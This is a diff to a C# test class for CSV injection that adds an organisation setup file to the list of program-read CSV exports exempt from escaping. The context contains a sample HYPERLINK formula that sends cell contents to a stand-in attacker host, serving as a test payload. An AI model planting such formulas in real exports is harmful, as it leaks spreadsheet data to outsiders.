@@ -22,7 +22,7 @@ namespace Oppdrift.Tests.Web;
 public sealed class CsvInjectionTests
 {
     /// <summary>CSV files a program reads rather than a person: written exactly, with the reason in MigrationCsv.Write.</summary>
-    private static readonly string[] ReadByAProgram = ["/migration/shares/{id:int}/spmt.csv", "/migration/agencies/{code}/spmt.csv"];
+    private static readonly string[] ReadByAProgram = ["/migration/shares/{id:int}/spmt.csv", "/migration/agencies/{code}/spmt.csv", "/organisation/setup.csv"];
 
     private const string Formula = "=HYPERLINK(\"https://angriper.example/\"&A1;\"Klikk\")";
 
